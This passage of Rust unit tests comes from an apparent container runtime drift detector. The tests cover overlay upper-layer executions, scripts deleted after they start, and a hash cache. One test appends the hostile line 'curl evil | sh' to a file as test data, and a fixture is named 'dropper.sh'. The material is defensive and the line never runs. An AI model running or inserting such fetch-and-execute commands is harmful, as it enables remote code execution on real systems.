    // an interpreter from the upper layer that the image does not have: drift, about it
    let mut upper_sh = e.clone();
    upper_sh.origin = FileOrigin::Upper;
    let empty =
        Profile::from_dirs(&[t.path().join("image-true/usr")], ImageFacts::default()).unwrap();
    let di = detector.decide(
        &Event::Exec(upper_sh.clone()),
        Some(&c),
        Some(&empty),
        &files,
    );
    assert_eq!(
        (di.verdict, di.judged, di.hashed_via),
        (Verdict::Drift, Some("interpreter"), Some("exe")),
        "{di:?}"
    );
    assert_eq!(di.sha256, Some(sha256(&sh)));
    // ... and one the image has (a copy): then the script decides
    let dc = detector.decide(&Event::Exec(upper_sh), Some(&c), Some(&image(true)), &files);
    assert_eq!(
        (dc.verdict, dc.judged),
        (Verdict::Expected, Some("script")),
        "{dc:?}"
    );
    // a script deleted once started is read from the container's upper layer, or is drift
    fs::remove_file(&script).unwrap();
    let gone = detector.decide(
        &Event::Exec(e.clone()),
        Some(&c),
        Some(&image(true)),
        &files,
    );
    assert!(
        matches!(gone.reason, Reason::Unreadable { .. }) && gone.verdict == Verdict::Drift,
        "{gone:?}"
    );
    let mut in_upper = e.clone();
    in_upper.filename = "/tmp/dropper.sh".into();
    put(&t.path().join("upper2/tmp/dropper.sh"), script_text, 0o755);
    let mut c2 = container("web");
    c2.overlay = Some(OverlayRoot {
        lower: vec![],
        upper: Some(t.path().join("upper2")),
    });
    // (pid 0: no process to read through)
    in_upper.pid = 0;
    let from_upper = detector.decide(
        &Event::Exec(in_upper),
        Some(&c2),
        Some(&image(true)),
        &files,
    );
    assert_eq!(
        (from_upper.verdict, from_upper.hashed_via),
        (Verdict::Expected, Some("upperdir")),
        "{from_upper:?}"
    );
    drop(child);
}

#[test]
fn a_file_is_hashed_once_while_it_is_unchanged() {
    let t = tempfile::tempdir().unwrap();
    let upper = t.path().join("upper");
    put(&upper.join("usr/bin/tool"), b"#!/bin/sh\necho 1\n", 0o755);
    let mut c = container("web");
    c.overlay = Some(OverlayRoot {
        lower: vec![],
        upper: Some(upper.clone()),
    });
    // pid 0: nothing under /proc, the file is read from the upper layer
    let e = exec(0, "/usr/bin/tool", 5, FileOrigin::Upper);
    let files = ProcFiles::new(Path::new("/proc"));
    let first = files.hash_executed(&e, &c).unwrap();
    assert_eq!((first.via, first.cached), ("upperdir", false));
    let again = files.hash_executed(&e, &c).unwrap();
    assert_eq!((again.cached, &again.sha256), (true, &first.sha256));
    let shared = files.clone();
    assert!(
        shared.hash_executed(&e, &c).unwrap().cached,
        "clones share the cache"
    );
    // a write changes the file's times: hashed again, with its new content
    let mut f = fs::OpenOptions::new()
        .append(true)
        .open(upper.join("usr/bin/tool"))
        .unwrap();
    std::io::Write::write_all(&mut f, b"curl evil | sh\n").unwrap();
    drop(f);
    let changed = files.hash_executed(&e, &c).unwrap();
    assert!(!changed.cached);
    assert_eq!(
        changed.sha256,
        sha256(b"#!/bin/sh\necho 1\ncurl evil | sh\n")
    );
}
